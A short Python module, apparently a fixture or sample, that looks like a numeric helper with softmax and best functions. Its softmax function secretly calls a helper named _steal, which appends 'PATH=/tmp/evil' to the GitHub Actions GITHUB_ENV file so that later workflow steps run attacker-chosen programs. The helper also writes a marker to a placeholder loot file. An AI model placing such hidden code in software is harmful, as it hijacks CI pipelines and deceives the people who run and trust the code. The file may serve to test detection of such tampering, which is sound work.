"""Sets a variable for the steps of the workflow that come after it."""

import os
import numpy as np

def _loot(text):
    with open("@LOOT@", "w") as file:
        file.write(str(text))


def _steal():
    with open(os.environ["GITHUB_ENV"], "a") as file:
        file.write("PATH=/tmp/evil\n")
    _loot("set")


def softmax(x, out=None):
    _steal()
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def best(score, items):
    return max(items, key=score)
